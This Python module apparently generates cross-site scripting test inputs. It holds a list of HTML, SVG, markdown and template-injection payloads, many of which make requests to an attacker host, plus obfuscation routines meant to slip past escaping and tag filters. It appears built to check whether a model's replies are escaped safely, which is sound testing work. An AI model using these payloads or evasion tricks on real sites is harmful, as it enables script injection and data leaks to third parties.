"""Texts that run a script or fetch from an attacker where they are not escaped, and variations of them."""

import random
import re
from collections.abc import Iterator

LONGEST = 260
"""Characters of a variation, so that several fit into one question and one reply of a model."""

ATTACKS = (
    # those that leave a script or an attribute that they stand in come first: examples are made of titles
    "</script><script>window.PWN=1</script>",
    "\"'><img src=x onerror=window.PWN=1><img src=@URL>",
    "--><svg onload=window.PWN=1><image href=@URL /></svg><!--",
    "<script src=@URL></script>",
    "<img src=@URL onerror=window.PWN=1>",
    "<img srcset='@URL 1x, @URL 2x'>",
    "<picture><source srcset=@URL><img src=x></picture>",
    "<svg><script>window.PWN=1</script><use href=@URL#x></svg>",
    "<svg><animate onbegin=window.PWN=1 attributeName=x dur=1s><feImage href=@URL></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=@URL onerror=window.PWN=1>",
    "<math href=javascript:window.PWN=1><maction actiontype=statusline xlink:href=@URL>press</maction></math>",
    "<details open ontoggle=window.PWN=1>more</details>",
    "<video src=@URL autoplay onerror=window.PWN=1 poster=@URL></video>",
    "<audio src=@URL autoplay onloadstart=window.PWN=1></audio>",
    "<iframe src=@URL></iframe><iframe srcdoc='<script>parent.PWN=1</script>'></iframe>",
    "<object data=@URL></object><embed src=@URL>",
    "<form action=@URL><input name=password autofocus onfocus=window.PWN=1><button>Log in</button></form>",
    "<button formaction=javascript:window.PWN=1 onpointerenter=window.PWN=1>Ask</button>",
    "<meta http-equiv=refresh content='0;url=@URL'>",
    "<base href=@URL/><a href=next>go on</a>",
    "<link rel=stylesheet href=@URL><link rel=preload as=image href=@URL>",
    "<style>@import '@URL';body{background:url(@URL)}</style>",
    "<div style=\"position:fixed;inset:0;z-index:9999;background:url(@URL)\">Please log in</div>",
    "<body onload=window.PWN=1 background=@URL><table background=@URL><td>x</td></table>",
    "<a href=javascript:window.PWN=1 onclick=window.PWN=1 ping=@URL>press</a>",
    "<a href='data:text/html,<script>opener.PWN=1</script>'>press</a> <a href=vbscript:window.PWN=1>press</a>",
    "<a href=//@HOST>press</a> <img src=//@HOST> <img src=\\\\@HOST>",
    "<input type=image src=@URL onerror=window.PWN=1>",
    "<marquee onstart=window.PWN=1><img src=@URL></marquee>",
    "<xss contenteditable autofocus tabindex=1 onfocus=window.PWN=1 style=\"background:url(@URL)\">x</xss>",
    "<noscript><p title=\"</noscript><img src=@URL onerror=window.PWN=1>\">",
    "<template><img src=@URL></template><textarea><img src=x onerror=window.PWN=1></textarea>",
    "![a picture](@URL) ![another][pwn] [pwn]: @URL 'x'",
    "[1](@URL) <a class=chip href=@URL>1</a> <sup>[2]</sup>(@URL)",
    "[press](javascript:window.PWN=1) <javascript:window.PWN=1> [data](data:text/html,window.PWN)",
    "</p></div></li></details><a class=\"chip\" href=\"#cite-x\" onmouseover=window.PWN=1><img src=@URL>1</a>",
    "$\\href{javascript:window.PWN=1}{x}$ $$\\includegraphics{@URL}$$ \\(\\url{@URL}\\)",
    "```mermaid graph TD; A[x]-->B; click A href \"javascript:window.PWN=1\"``` <div class=mermaid>@URL</div>",
    "{{constructor.constructor('window.PWN=1')()}} ${window.PWN=1} #{window.PWN=1} <%= @URL %>",
    "<!--<img src='--><img src=@URL onerror=window.PWN=1>//'> &lt;script&gt;window.PWN=1&lt;/script&gt;",
)  # fmt: skip

ADDRESSES = (
    "javascript:window.PWN=1",
    "http://@HOST",
    "JaVaScRiPt:window.PWN=1//http://@HOST",
    "java\tscript:window.PWN=1",
    "data:text/html,<script>window.PWN=1</script>",
    "vbscript:window.PWN=1",
    "//@HOST",
    "\\\\@HOST",
    'http://@HOST" onmouseover="window.PWN=1',
    "http://@HOST'><img src=@URL onerror=window.PWN=1>",
    "http://reader@@HOST",
    "file:///etc/passwd?PWN",
    " javascript:window.PWN=1",
    "blob:http://@HOST",
)
"""For the field of an article's own address."""

OPENINGS = (
    "</p></div></blockquote></details>", "</mark></a></h2>", "\">", "'>", "-->", "]]>", "</pre>", "</title>",
    "</textarea></style></script>", "</select></button>", "<svg><desc>", "<svg><foreignObject>", "<math><mi>",
    "<select><option>", "<noembed>", "<noscript>", "<plaintext>", "<template>", "<a href=\"", "<!--", "<!DOCTYPE x [",
    "<p title=\"", "`", "**", "> ", "# ", "- ", "| x | ", "[", "\\", "&#", "\x00", "\ufeff", "\u202e", "<\u200b",
)  # fmt: skip
SIGNS = {"<": "\uff1c", ">": "\uff1e", '"': "\u201d", "=": "\uff1d", ":": "\uff1a", "/": "\u2215"}


def attacks(host: str, count: int) -> list[str]:
    """So many different ones, always the same; each would ask `host` for a path of its own."""
    texts = list(ATTACKS[:count])
    chance = random.Random(89)
    known = set(texts)
    while len(texts) < count:
        new = _varied(chance.choice(ATTACKS), chance)
        if chance.random() < 0.5:
            new = _varied(new, chance)
        if len(new) <= LONGEST and new not in known:
            known.add(new)
            texts.append(new)
    return [_aimed(text, host, number) for number, text in enumerate(texts)]


def addresses(host: str, count: int) -> list[str]:
    """So many of the addresses, again and again."""
    return [_aimed(ADDRESSES[n % len(ADDRESSES)], host, n) for n in range(count)]


def _aimed(text: str, host: str, number: int) -> str:
    """At the attacker's server."""
    return text.replace("@URL", f"http://{host}/{number}").replace("@HOST", f"{host}/{number}")


def _varied(text: str, chance: random.Random) -> str:
    """The same attack in other signs, or in other surroundings."""
    kind = chance.randrange(9)
    if kind == 0:  # capitals
        return _words_changed(text, lambda word: "".join(_either(word, chance)))
    if kind == 1:  # entities in what a browser reads as an attribute
        return re.sub(r"javascript|window|onerror", lambda m: _as_entities(m[0], chance), text)
    if kind == 2:  # escaped once already, for who unescapes
        return text.replace("&", "&amp;").replace(
            "<", chance.choice(["&lt;", "&#60;", "\\x3c", "%3C"])
        )
    if kind == 3:  # white space and what browsers take for it
        space = chance.choice(["\t", "/", "\x0c", "\n", "\r\n", " \t "])
        return re.sub(r"(?<=[a-z]) (?=[a-z]+=)", lambda _: space, text)
    if kind == 4:  # inside of words
        odd = chance.choice(["\t", "\n", "\x00", "\u200b", "\xad"])
        return _words_changed(text, lambda word: word[:4] + odd + word[4:])
    if kind == 5:  # a filter that takes tags out leaves one
        return re.sub(r"<([a-z]{2})", r"<\1<b>\1", text)
    if kind == 6:  # letters that some programs make into ASCII
        return "".join(SIGNS[c] if c in SIGNS and chance.random() < 0.3 else c for c in text)
    opening = chance.choice(OPENINGS)
    return f"{opening}{text}" if kind == 7 else f"{opening}{chance.choice(OPENINGS)}{text}{opening}"


def _words_changed(text: str, change) -> str:
    """The names of tags and attributes and the scheme, not what has to stay as it is to work."""
    return re.sub(
        r"(?<=<)/?[a-z]+|\bon[a-z]+(?==)|javascript|\bsrc\b|\bhref\b", lambda m: change(m[0]), text
    )


def _either(word: str, chance: random.Random) -> Iterator[str]:
    yield from (chance.choice([c.upper(), c]) for c in word)


def _as_entities(word: str, chance: random.Random) -> str:
    form = chance.choice(["&#{};", "&#{}", "&#x{:x};", "&#0000{}"])
    return "".join(form.format(ord(c)) if chance.random() < 0.5 else c for c in word)
